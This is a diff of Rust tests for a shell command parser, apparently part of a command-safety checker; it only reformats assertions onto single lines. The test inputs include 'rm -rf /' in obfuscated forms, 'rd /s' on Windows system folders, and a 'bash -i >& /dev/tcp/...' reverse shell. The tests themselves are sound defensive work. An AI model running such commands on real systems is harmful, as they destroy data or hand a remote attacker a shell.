@@ -721,15 +721,9 @@ mod tests {
     #[test]
     fn quotes_and_escapes_are_removed() {
         assert_eq!(texts(&first("{rm,-rf,/} {a,b}")), ["rm", "-rf", "/", "{a,b}"]);
-        assert_eq!(
-            texts(&first(r#"r''m -rf "/" \~ 'a b' "x\"y" a\ b"#)),
-            ["rm", "-rf", "/", "~", "a b", "x\"y", "a b"]
-        );
+        assert_eq!(texts(&first(r#"r''m -rf "/" \~ 'a b' "x\"y" a\ b"#)), ["rm", "-rf", "/", "~", "a b", "x\"y", "a b"]);
         assert_eq!(texts(&first(r"\rm $'\x72\x6d' $'\162'")), ["rm", "rm", "r"]);
-        assert_eq!(
-            texts(&first(r"rd /s C:\Windows\System32 C:\ .\build")),
-            ["rd", "/s", r"C:\Windows\System32", r"C:\", r".\build"]
-        );
+        assert_eq!(texts(&first(r"rd /s C:\Windows\System32 C:\ .\build")), ["rd", "/s", r"C:\Windows\System32", r"C:\", r".\build"]);
         assert_eq!(texts(&first(r#""a\nb""#)), ["a\\nb"]);
     }
 
@@ -744,8 +738,7 @@ mod tests {
     #[test]
     fn redirections() {
         let command = first("cmd >out 2>>log < in 2>&1 >&2 &> all >| f <<< s");
-        let kinds: Vec<(RedirectKind, &str)> =
-            command.redirects.iter().map(|r| (r.kind, r.target.text.as_str())).collect();
+        let kinds: Vec<(RedirectKind, &str)> = command.redirects.iter().map(|r| (r.kind, r.target.text.as_str())).collect();
         assert_eq!(
             kinds,
             [
@@ -761,10 +754,7 @@ mod tests {
         );
         assert_eq!(texts(&command), ["cmd"]);
         let tcp = first("bash -i >& /dev/tcp/h/1 0>&1");
-        assert_eq!(
-            tcp.redirects.first().map(|r| (r.kind, r.target.text.as_str())),
-            Some((RedirectKind::Write, "/dev/tcp/h/1"))
-        );
+        assert_eq!(tcp.redirects.first().map(|r| (r.kind, r.target.text.as_str())), Some((RedirectKind::Write, "/dev/tcp/h/1")));
     }
 
     #[test]
